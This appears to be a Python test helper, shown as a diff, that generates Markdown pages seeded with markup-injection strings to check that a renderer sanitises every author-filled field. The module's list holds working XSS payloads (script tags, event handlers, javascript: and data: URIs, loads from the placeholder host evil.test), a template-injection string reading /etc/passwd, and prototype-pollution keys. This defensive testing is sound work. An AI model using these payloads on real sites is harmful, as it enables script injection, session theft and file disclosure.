@@ -1,0 +1,103 @@
+"""Markup-injection strings, put into every place of a page that an author can fill. Knows no test."""
+
+from __future__ import annotations
+
+import json
+import re
+from functools import cache
+
+from kit import SHARED
+
+SUITE = SHARED / "suites/xss.jsonl"
+
+# Always there: one of each family, in words of our own.
+OWN = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.test/x.js></sCrIpT >",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<base href=javascript:/a/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<style>@import '//evil.test/x.css';</style>",
+    "<p style='background:url(//evil.test/x.gif)'>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<img src=//evil.test/p.gif>",
+    "<video poster=//evil.test/p.gif src=//evil.test/v.mp4 autoplay onplay=alert(1)></video>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "\"><img src=x onerror=alert(1)>",
+    "'><script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)\" x=\"",
+    "' onfocus='alert(1)' autofocus tabindex='1",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</textarea></style></code></pre><img src=x onerror=alert(1)>",
+    "]]><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java&Tab;script&colon;alert(1)",
+    "\\x6aavascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+    "//evil.test/x",
+    "https://evil.test/\" onclick=\"alert(1)",
+    "x](javascript:alert(1)) [y",
+    "x\" onerror=\"alert(1)](y)",
+    "a|b]]<img src=x onerror=alert(1)>[[c",
+    "js\" onmouseover=\"alert(1)",
+    "$\\text{<img/src=x/onerror=alert(1)>}$",
+    "{{ config }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
+    "<kbgen-hole n=\"0\"></kbgen-hole><kbgen-slot n=\"0\"></kbgen-slot>",
+    "<b kbgen-mark=\"0\">x</b>",
+    "<a id=main name=dossier class=wikilink>x</a><b id=toc>y</b>",
+    "__proto__", "constructor", "\u202e\u2028\u0007\ufffe",
+)  # fmt: skip
+
+
+@cache
+def vectors(suite: bool) -> tuple[str, ...]:
+    """Our own strings, or those of the suite in its order, with calls of `alert` where it leaves room."""
+    if not suite:
+        return OWN
+    rows = (json.loads(line)["payload"] for line in SUITE.read_text("utf-8").splitlines())
+    return tuple(re.sub(r"%js_\w+%", "alert(1)", row) for row in rows)
+
+
+def file_name(vector: str, number: int) -> str:
+    """The vector as a file's name, as near as a file system allows."""
+    kept = re.sub(r"[/\0\r\n]", "", vector).encode("utf-8", "replace")[:120].decode("utf-8", "ignore")
+    return f"{kept.lstrip('._~ ') or 'x'} {number}.md"
+
+
+def page(vector: str, number: int) -> str:
+    """A page with the vector in its fields, its headings, labels, targets, cells, code, and text."""
+    v = " ".join(vector.split())  # one line: an unclosed tag then ends with its paragraph
+    quoted = json.dumps(vector)
+    fields = (
+        f"title: {quoted}\ntags: [{quoted}, shared]\naliases: [{quoted}]\ntype: source\nhost: {quoted}\n"
+        f"guests: [{quoted}, {json.dumps(f'[[{v}]]')}]\npublished: {quoted}\nurl: {quoted}\ndescription: {quoted}\n"
+        f"format: {quoted}\nraw_file: {quoted}\ncredibility: {quoted}\nlang: {quoted}\n{json.dumps(v)}: x\nown: {{a: {quoted}}}\n"
+    )
+    return (
+        f"---\n{fields}---\n\n## {v}\n\n> [!note] {v}\n> {v}\n\n- [{v}](Home.md) and [x]({v})\n- [x](<{v}> \"{v}\")\n"
+        f"- ![{v}](dot.png \"{v}\") and ![x]({v})\n- ![x](<{v}>)\n- [[{v}]] [[Home|{v}]] [[Home#{v}]] ![[{v}]]\n"
+        f"- [[Home#^{v}]] #{v} <{v}>\n- [x][r{number}]\n- https://example.org/{v}\n- word[^1]\n- `{v}` and ${v}$\n"
+        f"- <b title=\"{v}\">b</b> <a href=\"{v}\">a</a> <img src=\"{v}\" alt=\"{v}\">\n- <a href='{v}'>a</a> <img src={v}>\n\n"
+        f"| {v} | x |\n|:--|--:|\n| {v} | [[Home\\|{v}]] |\n\n[r{number}]: {v}\n[r{number}]: <{v}> '{v}'\n\n[^1]: {v}\n\n"
+        f"```{v}\n{v}\n```\n\n```html\n{v}\n```\n\n## Entities Mentioned\n\n- [[Home]] — {v}\n- **[[{v}]]** ({v}): {v}\n\n"
+        f"## Assessment\n\n- Credibility: {v}\n\n> {v}\n\n{vector}\n"
+    )
